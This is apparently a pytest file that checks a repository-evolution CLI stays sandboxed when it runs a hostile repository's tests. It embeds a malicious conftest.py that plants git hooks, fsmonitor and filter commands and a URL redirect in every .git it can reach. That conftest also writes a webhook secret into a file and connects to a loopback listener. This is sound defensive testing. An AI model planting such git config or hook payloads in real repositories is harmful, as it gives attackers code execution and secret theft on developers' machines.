"""`evolve run` on a hostile repository: its tests poison every `.git` they can find, write into the tree and
into the user's checkout, and call home. Nothing may escape: the checkout stays byte-identical, the commit
holds exactly the reported edits, no planted program runs, no connection is made, no secret is reported."""

from __future__ import annotations

import hashlib
import json
import socket
import threading
from pathlib import Path

import pytest

from evolve.cli import main
from tests.repo_factory import SAMPLE_PACKAGE, make_repo, run_git

HOSTILE_CONFTEST = """
import os
import pathlib
import socket

CHECKOUT = pathlib.Path({checkout!r})
MARK = {mark!r}
PORT = {port}


def _plant(gitdir):
    with open(gitdir / "config", "a") as handle:
        handle.write(
            "[core]\\n\\tfsmonitor = sh -c 'touch " + MARK + "-fsmonitor'\\n"
            "[filter \\"evil\\"]\\n\\tclean = sh -c 'touch " + MARK + "-filter; cat'\\n"
            "[url \\"http://127.0.0.1:" + str(PORT) + "/\\"]\\n\\tinsteadOf = https://\\n"
        )
    (gitdir / "info").mkdir(exist_ok=True)
    (gitdir / "info" / "attributes").write_text("* filter=evil\\n")
    (gitdir / "hooks").mkdir(exist_ok=True)
    for name in ("pre-commit", "post-commit", "reference-transaction", "post-checkout", "pre-push"):
        hook = gitdir / "hooks" / name
        hook.write_text("#!/bin/sh\\ntouch " + MARK + "-hook\\n")
        hook.chmod(0o755)


for start in (pathlib.Path.cwd(), pathlib.Path(__file__).resolve().parent, CHECKOUT):
    for directory in (start, *start.parents):
        candidate = directory / ".git"
        if candidate.is_dir():
            try:
                _plant(candidate)
            except OSError:
                pass
pathlib.Path("leak.txt").write_text("an artifact the tests made: " + os.environ.get("EVOLVE_WEBHOOK_SECRET", "") + "\\n")
try:
    (CHECKOUT / "written-by-tests.txt").write_text("x\\n")
    (CHECKOUT / "sample" / "numbers.py").write_text("edited by the tests\\n")
except OSError:
    pass
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"hello from the sandbox")
except OSError:
    pass
"""


class Listener:
    """A TCP listener on loopback that records every connection and what it was sent."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.server.settimeout(0.2)
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stopped.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(65536))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self.stopped.set()
        self.thread.join()
        self.server.close()


@pytest.fixture
def listener():  # type: ignore[no-untyped-def]
    server = Listener()
    yield server
    server.close()


def snapshot(checkout: Path) -> dict[str, str]:
    """Digest of every work-tree file, and of the git files that could carry planted code."""
    digests = {}
    for path in sorted(checkout.rglob("*")):
        relative = path.relative_to(checkout).as_posix()
        inside_git = relative.startswith(".git/")
        planted = relative in (".git/config",) or relative.startswith((".git/hooks/", ".git/info/"))
        if path.is_file() and (not inside_git or planted):
            digests[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


def test_hostile_tests_reach_nothing_outside_their_copy(tmp_path, listener, monkeypatch, capsys):
    secret = "whsec-cli-4f7a9c2e81d3"
    monkeypatch.setenv("EVOLVE_WEBHOOK_SECRET", secret)
    checkout = tmp_path / "checkout"
    mark = str(tmp_path / "escaped")
    files = dict(SAMPLE_PACKAGE)
    files["conftest.py"] = HOSTILE_CONFTEST.format(checkout=str(checkout), mark=mark, port=listener.port)
    repo = make_repo(checkout, files)
    before, status_before = snapshot(repo), run_git(repo, "status", "--porcelain")

    code = main(["run", str(repo), "--focus", "correctness", "--output", str(tmp_path / "out")])

    assert code == 0, capsys.readouterr()
    report = json.loads((tmp_path / "out" / "report.json").read_text())
    assert report["status"] == "succeeded"
    # the checkout: byte-identical, same status, nothing planted in its .git
    assert snapshot(repo) == before and run_git(repo, "status", "--porcelain") == status_before
    # the commit: exactly the reported edits (no leak.txt, no conftest change), and equal to the report's diff
    committed = set(run_git(repo, "diff", "--name-only", report["base_sha"], report["commit"]).split())
    assert committed == {e["path"] for e in report["attempts"][-1]["edits"]}
    assert "sample/numbers.py" in committed and not committed & {"leak.txt", "conftest.py"}
    # nothing planted ran, nothing connected, the secret is in no output
    assert not list(tmp_path.glob("escaped*")) and listener.received == []
    for produced in (tmp_path / "out").iterdir():
        assert secret not in produced.read_text(errors="replace")
    # no scratch tree is left behind, and nothing under the repository's git directory
    assert not (repo / ".git" / "evolve" / "work").exists()


def test_a_poisoned_checkout_is_refused_naming_the_key(tmp_path, capsys):
    repo = make_repo(tmp_path / "r", SAMPLE_PACKAGE)
    run_git(repo, "config", "url.http://127.0.0.1:9/.insteadOf", "https://")
    config_before = (repo / ".git" / "config").read_bytes()
    for command in ("run", "plan"):
        assert main([command, str(repo)]) == 2
        err = capsys.readouterr().err
        assert "not trusted" in err and "url.http://127.0.0.1:9/.insteadof" in err
    assert (repo / ".git" / "config").read_bytes() == config_before  # never edited for the user
    run_git(repo, "config", "--unset-all", "url.http://127.0.0.1:9/.insteadOf")
    run_git(repo, "config", "core.fsmonitor", "sh -c 'touch /tmp/x'")
    assert main(["plan", str(repo)]) == 2
    assert "core.fsmonitor" in capsys.readouterr().err


def test_a_persons_commit_on_an_evolve_branch_is_kept(tmp_path, capsys):
    repo = make_repo(tmp_path / "r", SAMPLE_PACKAGE)
    first = main(["run", str(repo), "--focus", "correctness", "--json"])
    report = json.loads(capsys.readouterr().out)
    assert first == 0 and report["status"] == "succeeded"
    branch = report["branch"]
    run_git(repo, "checkout", "-q", branch)
    (repo / "NOTES.md").write_text("my own work\n")
    run_git(repo, "add", "NOTES.md")
    run_git(repo, "commit", "-q", "-m", "a person's commit")
    mine = run_git(repo, "rev-parse", "HEAD").strip()
    run_git(repo, "checkout", "-q", "main")

    assert main(["run", str(repo), "--focus", "correctness", "--json"]) == 0
    again = json.loads(capsys.readouterr().out)
    assert run_git(repo, "rev-parse", branch).strip() == mine  # not moved
    assert again["branch"] == f"{branch}-2" and "did not make" in again["message"]
    assert "Test Author" in again["message"]


def test_config_is_the_working_trees_and_a_symlink_is_refused(tmp_path, capsys):
    repo = make_repo(tmp_path / "r", SAMPLE_PACKAGE)
    assert main(["plan", str(repo)]) == 0
    assert "config: defaults (no .github/evolve.yml) (working tree)" in capsys.readouterr().err
    outside = tmp_path / "outside.yml"
    outside.write_text("secret: do-not-quote-me\n")
    (repo / ".github").mkdir()
    (repo / ".github" / "evolve.yml").symlink_to(outside)
    for command in ("plan", "run"):
        assert main([command, str(repo)]) == 2
        err = capsys.readouterr().err
        assert "symbolic link" in err and "do-not-quote-me" not in err
